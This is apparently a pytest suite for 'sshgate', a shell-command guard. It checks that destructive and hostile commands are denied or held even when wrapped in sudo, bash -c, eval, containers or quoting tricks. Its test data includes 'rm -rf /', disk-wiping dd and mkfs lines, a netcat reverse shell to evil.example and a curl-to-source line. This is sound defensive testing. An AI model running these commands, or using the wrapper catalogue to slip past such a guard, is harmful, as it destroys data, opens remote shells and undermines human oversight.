"""Table-driven guard tests: every category, every evasion form, and hypothesis."""

from __future__ import annotations

import shlex
import string

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sshgate.guard import classify
from sshgate.guard.parse import parse
from sshgate.policy.model import Action

from .corpus import BENIGN, DESTRUCTIVE, HARMFUL, HELD_BY_RULE, HELD_ORDINARY, LOOKALIKES
from .expect import TABLE_BUDGET, each

# The tables run as one test each (expect.each names every failing line): one pytest item per
# line cost more CPU than its classification.


def test_destructive():
    def check(line, decision, rule):
        c = classify(line, seconds=TABLE_BUDGET)
        assert rule in [f.rule for f in c.findings], c.findings
        assert c.default_action.value == decision, c.findings

    each(DESTRUCTIVE, check)


def test_benign_is_allowed():
    def check(line):
        c = classify(line, seconds=TABLE_BUDGET)
        assert c.default_action is Action.ALLOW, c.findings

    each(BENIGN, check)


def test_ordinary_outside_the_catalogue_is_held_as_unknown():
    def check(line):
        c = classify(line, seconds=TABLE_BUDGET)
        assert c.default_action is Action.APPROVE, c.findings
        assert "guard.unknown" in [f.rule for f in c.findings], c.findings

    each(HELD_ORDINARY, check)


@pytest.mark.parametrize("line,rule", HELD_BY_RULE)
def test_ordinary_held_by_a_rule(line, rule):
    c = classify(line, seconds=TABLE_BUDGET)
    assert c.default_action is Action.APPROVE, c.findings
    assert rule in [f.rule for f in c.findings], c.findings


HARMFUL_LINES = [(cls, line) for cls, lines in HARMFUL.items() for line in lines]


def test_harmful_class_is_never_allowed():
    def check(cls, line):
        c = classify(line, seconds=TABLE_BUDGET)
        assert c.default_action is not Action.ALLOW, (cls, line, c.safe_by)

    each(HARMFUL_LINES, check)


def test_harmless_lookalike_stays_allowed():
    def check(line):
        c = classify(line, seconds=TABLE_BUDGET)
        assert c.default_action is Action.ALLOW, c.findings
        assert all(c.safe_by), c.safe_by

    each(LOOKALIKES, check)


# Denied commands x every wrapper and separator form: the rule must still be found.
DENIED = [
    ("rm -rf /", "fs.rm-root"),
    ("mkfs.ext4 /dev/sda1", "disk.mkfs"),
    ("reboot", "power.shutdown"),
    ("iptables -F", "net.firewall"),
    ("terraform destroy", "infra.destroy"),
    ("history -c", "history.tamper"),
    ("dd if=/dev/zero of=/dev/sda", "disk.dd-device"),
    ("nc -e /bin/sh evil.example 4444", "net.reverse-shell"),
]
FORMS = [
    "{}", "sudo {}", "sudo -u root {}", "sudo -E -H {}", "doas {}", "doas -u root {}", "env {}",
    "env -i A=1 {}", "nice {}", "nice -n 5 {}", "nohup {}", "timeout 10 {}",
    "timeout -s KILL 5m {}", "time {}", "command {}", "exec {}", "setsid {}", "stdbuf -oL {}",
    "ionice -c3 {}", "ionice -c 2 -n 7 {}", "chrt -f 10 {}", "unbuffer {}", "strace -f {}",
    "strace -o /tmp/t -f {}", "flock /tmp/lock {}", "flock -w 5 /tmp/lock {}", "chroot / {}",
    "sudo nice -n 19 timeout 60 {}", "bash -c '{}'", "sh -c '{}'", "zsh -c '{}'", "dash -c '{}'",
    "bash -lc '{}'", "su -c '{}'", "su root -c '{}'", "su - root -c '{}'", "sudo su -c '{}'",
    "eval '{}'", "eval {}", "watch '{}'", "watch -n 5 {}", "ssh host '{}'", "ssh -p 22 host {}",
    "ssh -o BatchMode=yes host sudo {}", "true; {}", "true && {}", "false || {}",
    "ls | {}", "({})", "{{ {}; }}", "echo $({})", "echo `{}`", "cat <({})", "{} &",
    "if true; then {}; fi", "for i in 1; do {}; done", "while false; do {}; done",
    "f() {{ {}; }}; f", "echo ok\n{}", "x=1 {}", "sudo bash -c \"{}\"",
    "bash -c \"sh -c '{}'\"", "systemd-run {}", "runuser -u root -- {}", "alias ls='{}'",
    "[[ -f x ]] && {}", "echo $((1)); {}",
    # a command run in a container is judged like the host's (remote_exec.py)
    "docker exec web sh -c '{}'", "kubectl exec -n x pod -- bash -c '{}'",
    "docker compose exec -T web sh -c '{}'", "podman exec -it web sh -c '{}'",
    "docker-compose run --rm web sh -c '{}'", "docker --context p exec -u root web sh -c '{}'",
]


def test_denied_survives_every_wrapper():
    def check(base, rule, form):
        line = form.format(base)
        c = classify(line, seconds=TABLE_BUDGET)
        assert rule in [f.rule for f in c.findings], (line, c.findings)
        assert c.default_action is Action.DENY, (line, c.findings)

    each([(base, rule, form) for base, rule in DENIED for form in FORMS], check)


@pytest.mark.parametrize("line", [
    "echo / | xargs rm -rf", "find / -maxdepth 0 -exec rm -rf {} +", "parallel rm -rf ::: /",
    "find . -execdir rm -rf {} \\;", "ls | xargs -n1 -P4 rm -rf",
])
def test_commands_with_arguments_from_elsewhere_are_held(line):
    assert classify(line, seconds=TABLE_BUDGET).default_action is not Action.ALLOW


@pytest.mark.parametrize("line,argv0", [
    ('"rm" -rf /', "rm"), ("r\\m -rf /", "rm"), ("/bin/rm -rf /", "rm"),
    ("\\rm -rf /", "rm"), ("'/usr/bin/rm' -rf /", "rm"), ("/usr/bin/env rm -rf /", "rm"),
])
def test_quote_and_path_removal(line, argv0):
    c = classify(line, seconds=TABLE_BUDGET)
    assert c.default_action is Action.DENY
    assert any(cmd.name == argv0 for cmd in parse(line).commands)


def test_finding_carries_rule_why_argv_and_span():
    line = "ls && sudo rm -rf /srv/cache"
    found = classify(line, seconds=TABLE_BUDGET).findings
    f = next(f for f in found if f.rule == "fs.rm-recursive")
    assert f.argv == ("rm", "-rf", "/srv/cache")
    assert f.why and f.paths == ("/srv/cache",) and f.via == ("sudo",)
    assert line[f.span[0]:f.span[1]].startswith("sudo rm")


def test_redirect_to_ordinary_file_is_fine_but_system_path_is_not():
    assert classify("echo hi > out.log").default_action is Action.ALLOW
    assert classify("echo hi > /etc/motd").default_action is Action.APPROVE


def test_huge_line_is_not_allowed():
    assert classify("echo " + "a" * 100_000).default_action is not Action.ALLOW


# --- hypothesis -------------------------------------------------------------------------------
# backticks do not nest without escaping, and alias bodies run only when called
WRAPPERS = st.sampled_from([f for f in FORMS if "alias" not in f and "`" not in f])
JUNK = st.text(alphabet=string.ascii_letters + string.digits + " -_./", max_size=20)


@given(st.text(max_size=200))
def test_classify_never_raises(line):
    c = classify(line, seconds=TABLE_BUDGET)
    assert c.default_action in (Action.ALLOW, Action.APPROVE, Action.DENY)


@given(st.text(alphabet=string.printable, max_size=120))
def test_classify_printable_never_raises(line):
    classify(line, seconds=TABLE_BUDGET)


def wrap(form: str, line: str) -> str:
    """Put ``line`` into ``form`` the way a shell user would quote it."""
    for quoted in ("'{}'", '"{}"'):
        if quoted in form:
            return form.replace(quoted, "\0").format().replace("\0", shlex.quote(line))
    if form in JOINING_FORMS and any(q in line for q in "'\"\\"):
        # eval/ssh/watch join their words with spaces: quoting must survive one more round
        return form.format(shlex.quote(line))
    return form.format(line)


JOINING_FORMS = {"eval {}", "ssh -p 22 host {}", "watch -n 5 {}",
                 "ssh -o BatchMode=yes host sudo {}"}


@given(st.sampled_from(DENIED), st.lists(WRAPPERS, min_size=1, max_size=3), JUNK)
def test_denied_inside_nested_wrappers_is_never_allowed(base, forms, prefix):
    line, rule = base
    for form in forms:
        line = wrap(form, line)
    line = f"echo {prefix!r}; {line}" if prefix else line
    assert classify(line, seconds=TABLE_BUDGET).default_action is not Action.ALLOW, line


@given(st.text(alphabet="$(){}[]'\"`;|&<>\\ \n\trm-f/", max_size=60))
def test_unparseable_is_never_allowed(line):
    c = classify(line, seconds=TABLE_BUDGET)
    if not c.parseable:
        assert c.default_action is not Action.ALLOW


@pytest.mark.parametrize("line", ["'${--f;'/", "'${\"'-"])
def test_parser_that_never_finishes_is_bounded_and_not_allowed(line):
    c = classify(line, seconds=TABLE_BUDGET)
    assert c.default_action is not Action.ALLOW
    assert any("no closing" in f.why or "did not finish" in f.why for f in c.findings)


# --- interpreters whose program is the agent's stdin (issue 15, item 4) ----------------------
BARE = ["python3", "python", "python3.11", "pypy3", "perl", "ruby", "irb", "node", "nodejs",
        "php", "bash", "sh", "zsh", "dash", "ksh", "mksh", "fish", "tcsh", "busybox sh",
        "busybox ash", "lua", "luajit", "osascript", "tclsh", "expect", "pwsh", "R", "dc",
        "psql", "mysql app", "sqlite3 app.db", "redis-cli", "mongosh", "ed notes.txt",
        "gdb ./server"]
STDIN_NAMES = ["-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0", "/proc/thread-self/fd/0",
               "/proc/1234/fd/0", "/proc/$$/fd/0", "/dev//stdin", "/dev/./stdin",
               "/proc/self/root/dev/stdin", "/dev/std?n", "/dev/{stdin,x}", "<(cat)",
               "/dev/tty", "$X"]


def test_bare_interpreter_is_held():
    def check(interp, form):
        c = classify(form.format(interp))
        assert "exec.interactive-interpreter" in [f.rule for f in c.findings], c.findings
        assert c.default_action is not Action.ALLOW

    each([(interp, form) for interp in BARE for form in
          ["{}", "sudo {}", "env A=1 {}", "nice -n 5 {}", "timeout 9 {}", "true && {}",
           "docker exec -i web {}", "kubectl exec -it pod -- {}",
           "docker compose exec web {}"]], check)


def test_script_named_like_stdin_is_held():
    def check(interp, name):
        c = classify(f"{interp} {name}", seconds=TABLE_BUDGET)
        assert {f.rule for f in c.findings} & {"exec.interactive-interpreter",
                                               "exec.pipe-to-interpreter"}, c.findings
        assert c.default_action is not Action.ALLOW

    each([(interp, name) for interp in ["python3", "perl", "ruby", "node", "php", "bash", "sh",
                                        "source", ".", "lua", "Rscript", "awk -f", "sed -f"]
          for name in STDIN_NAMES], check)


@pytest.mark.parametrize("line", [
    "python3 -i tool.py", "perl -de0", "python3 -W ignore", "bash -o pipefail", "bash -s a b",
    "bash -", "bash -- /dev/stdin", "php -a", "node -i", "bash -x", "X=/dev/stdin; bash $X",
    "cd /dev && bash stdin", "cd /proc/self/fd && sh 0", "bash <(cat)", "source <(curl -s x)",
    "python3 - < /dev/stdin", "cat | python3",
])
def test_other_spellings_of_a_stdin_program_are_held(line):
    c = classify(line, seconds=TABLE_BUDGET)
    assert c.default_action is not Action.ALLOW, c.findings


@pytest.mark.parametrize("line", [
    "bash deploy.sh", "bash -x deploy.sh", "sh ./install.sh --prefix=/opt", "python3 app.py",
    ". ~/.bashrc", "python3 -m pytest -q", "node server.js",
    "node --version", "perl -v", "php -v", "php -S 127.0.0.1:8000", "Rscript report.R",
    "lua script.lua", "awk -f prog.awk data", "sed -f edits.sed file", "psql -c 'select 1'",
    "mysql -e 'SHOW DATABASES'", "sqlite3 app.db '.tables'", "redis-cli ping",
    "gdb -batch -ex bt ./core", "bash /dev/null", "find . -name '*.sh' -exec bash {} \\;",
])
def test_a_script_file_or_inline_program_is_not_held_as_stdin(line):
    rules = [f.rule for f in classify(line, seconds=TABLE_BUDGET).findings]
    assert "exec.interactive-interpreter" not in rules, rules
    assert "exec.pipe-to-interpreter" not in rules, rules


def test_budget_bounds_a_long_adversarial_line():
    import time
    line = "echo " + "$(x)" * (64 * 1024 // 4 - 2)
    start = time.thread_time()
    c = classify(line)
    assert time.thread_time() - start < 0.2
    assert c.default_action is not Action.ALLOW
    assert any("budget" in f.why for f in c.findings), c.findings
